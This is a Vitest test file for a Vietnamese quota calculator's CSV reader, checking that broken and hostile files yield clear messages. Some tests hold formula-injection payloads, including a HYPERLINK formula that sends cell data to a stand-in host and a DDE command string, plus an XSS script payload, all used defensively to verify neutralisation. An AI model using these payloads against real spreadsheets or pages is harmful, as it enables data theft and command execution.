/**
 * Hostile and broken files through the whole reading path of the quota calculator
 * (decode → read → validate → compute → result CSV): each gets a clear Vietnamese
 * message naming the file (and row where there is one), or a correct result.
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { MAX_FILE_MEGABYTES } from '../../../src/lib/csv/decode';
import { formatIssue } from '../../../src/lib/csv/issues';
import { MAX_COLUMNS, MAX_DATA_ROWS } from '../../../src/lib/csv/read';
import { computeFromFiles, type InputFile } from '../../../src/lib/quota/quota-files';
import { quotaResultCsv } from '../../../src/lib/quota/result-csv';
import { QD470_THAI_NGUYEN } from '../../../src/lib/quota/rules';

const HEADER = 'ma_xa,ten_xa,dan_so,dan_so_dtts,bien_che,can_bo_dtts';
const file = (content: string | Uint8Array, name = 'xa.csv'): InputFile => ({
  name,
  bytes: typeof content === 'string' ? new TextEncoder().encode(content) : content,
});
const compute = (content: string | Uint8Array) => computeFromFiles({ xa: file(content) }, QD470_THAI_NGUYEN);
const errorTexts = (content: string | Uint8Array) =>
  compute(content)
    .issues.filter((issue) => issue.severity === 'error')
    .map(formatIssue);

describe('hostile files get a message, never a crash or a wrong number', () => {
  it('a 0-byte file', () => {
    expect(errorTexts(new Uint8Array())).toEqual(['xa.csv: Tệp rỗng.']);
  });

  it('a binary file named .csv (an image, random bytes)', () => {
    const png = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);
    expect(errorTexts(png)).toEqual([expect.stringMatching(/^xa\.csv: Tệp chứa dữ liệu nhị phân/)]);
    let seed = 7;
    const noise = Uint8Array.from({ length: 4096 }, () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) % 256);
    expect(errorTexts(noise)).toEqual([expect.stringMatching(/^xa\.csv: .*(nhị phân|ký tự điều khiển|không hợp lệ)/)]);
  });

  it(`a file over ${MAX_FILE_MEGABYTES} MB is refused before it is read`, () => {
    const huge = new Uint8Array(MAX_FILE_MEGABYTES * 1024 * 1024 + 1).fill(0x41);
    expect(errorTexts(huge)).toEqual([expect.stringMatching(/^xa\.csv: Tệp nặng 50,0 MB, quá giới hạn 50 MB mỗi tệp/)]);
  });

  it('a 1-million-row file stops at the row limit with a message', () => {
    const rows = `${HEADER}\n${'01,Xã A,100,10,5,1\n'.repeat(1_000_000)}`;
    const out = compute(rows);
    expect(out.results).toEqual([]);
    expect(out.issues.map(formatIssue)).toEqual([`xa.csv: Tệp có hơn ${MAX_DATA_ROWS.toLocaleString('vi-VN')} dòng dữ liệu; tối đa ${MAX_DATA_ROWS.toLocaleString('vi-VN')} dòng.`]);
  });

  it('10,000 columns in the header, or in one data row', () => {
    const wide = Array.from({ length: 10_000 }, (_, i) => `cot_${i}`).join(',');
    expect(errorTexts(`${HEADER},${wide}\n01,Xã A,100,10,5,1\n`)).toEqual([`xa.csv, dòng 1: Tệp có 10.006 cột; tối đa ${MAX_COLUMNS} cột.`]);
    const wideRow = `01,Xã A,100,10,5,1${',x'.repeat(10_000)}`;
    expect(errorTexts(`${HEADER}\n${wideRow}\n`)).toEqual([expect.stringMatching(/^xa\.csv, dòng 2: Dòng này có 10\.006 ô nhưng dòng tiêu đề có 6 cột\./)]);
  });

  it('text in a wrong encoding: damaged UTF-8, and an old Vietnamese font', () => {
    const damaged = new Uint8Array([...new TextEncoder().encode(`${HEADER}\n01,Xã Đồng Hỷ,100,10,5,1\n02,Xã `), 0xc3, 0x28, ...new TextEncoder().encode(',1,1,1,1\n')]);
    expect(errorTexts(damaged)).toEqual([expect.stringMatching(/^xa\.csv: Tệp lưu theo UTF-8 nhưng có byte không hợp lệ ở dòng 3/)]);
    expect(errorTexts(`${HEADER}\n01,Xaõ Ñoàng Hyû,100,10,5,1\n02,Xaõ Vieät Hoøa,100,10,5,1\n`)).toEqual([expect.stringMatching(/TCVN3 \(ABC\) hoặc VNI/)]);
  });

  it('Windows-1258 (legacy Excel CSV) is decoded correctly', () => {
    // "Xã Đồng" in Windows-1258: x, a + combining tilde (0xDE), space, Đ (0xD0), ô (0xF4) + grave (0xCC), n, g.
    const name = [0x58, 0x61, 0xde, 0x20, 0xd0, 0xf4, 0xcc, 0x6e, 0x67];
    const bytes = new Uint8Array([...new TextEncoder().encode(`${HEADER}\n01,`), ...name, ...new TextEncoder().encode(',1000,300,20,2\n')]);
    const out = compute(bytes);
    expect(out.encodings).toEqual([{ file: 'xa.csv', encoding: 'Windows-1258' }]);
    expect(out.results.map((r) => r.name)).toEqual(['Xa\u0303 Đồng'.normalize('NFC')]);
  });

  it('mixed line endings give the same result as clean ones', () => {
    const clean = compute(`${HEADER}\n01,Xã A,1000,300,20,2\n02,Xã B,1000,50,10,0\n03,Xã C,100,100,5,5\n`);
    const mixed = compute(`${HEADER}\r\n01,Xã A,1000,300,20,2\r02,Xã B,1000,50,10,0\n03,Xã C,100,100,5,5\r\n`);
    expect(clean.results).toHaveLength(3);
    expect(mixed.results).toEqual(clean.results);
  });

  it('an unbalanced quote is located by its row', () => {
    expect(errorTexts(`${HEADER}\n01,Xã A,1000,300,20,2\n02,"Xã B,1000,50,10,0\n03,Xã C,100,100,5,5\n`)).toEqual([
      expect.stringMatching(/^xa\.csv, dòng 3: Dấu ngoặc kép \("\) mở ở dòng này nhưng không được đóng/),
    ]);
  });

  it('a duplicate header names both columns', () => {
    expect(errorTexts(`${HEADER},Tên xã\n01,Xã A,1000,300,20,2,Xã B\n`)).toEqual([
      'xa.csv, dòng 1, cột “Tên xã”: Cột “Tên xã” trùng với cột “ten_xa” (cột B và cột G); mỗi cột chỉ được có một lần.',
    ]);
  });

  it('very long cells: a long name is kept whole, a long bad number is quoted short', () => {
    const longName = `Xã ${'Phú '.repeat(250_000)}`.trim();
    const out = compute(`${HEADER}\n01,${longName},1000,300,20,2\n`);
    expect(out.results[0]?.name).toBe(longName);
    const [message] = errorTexts(`${HEADER}\n01,Xã A,1000,300,${'9'.repeat(1_000_000)}x,2\n`);
    expect(message).toMatch(/^xa\.csv, dòng 2, cột “bien_che”: “9{60}…” không phải là số\.$/);
  });

  it('formula cells are read as text and neutralised in the result file (read back)', () => {
    const names = ['=HYPERLINK("http://x.example/?d="&A1,"Bấm")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)', '-1+1'];
    const rows = names.map((name, i) => `0${i},"${name.replaceAll('"', '""')}",1000,300,20,2`);
    const out = compute(`${HEADER}\n${rows.join('\n')}\n`);
    expect(out.results.map((r) => r.name)).toEqual(names);
    const back = Papa.parse<Record<string, string>>(quotaResultCsv(out.results, QD470_THAI_NGUYEN).slice(1), { header: true, skipEmptyLines: true }).data;
    expect(back.map((r) => r.ten_xa)).toEqual(names.map((name) => `'${name}`));
    expect(back.every((r) => Object.values(r).every((cell) => !/^[=+\-@\t\r]/.test(cell)))).toBe(true);
  });

  it('HTML and script in names stay text (the page renders them as text)', () => {
    const name = '<img src=x onerror=alert(1)><script>alert(1)</script>';
    const out = compute(`${HEADER}\n01,${name},1000,300,20,2\n`);
    expect(out.results[0]?.name).toBe(name);
  });
});
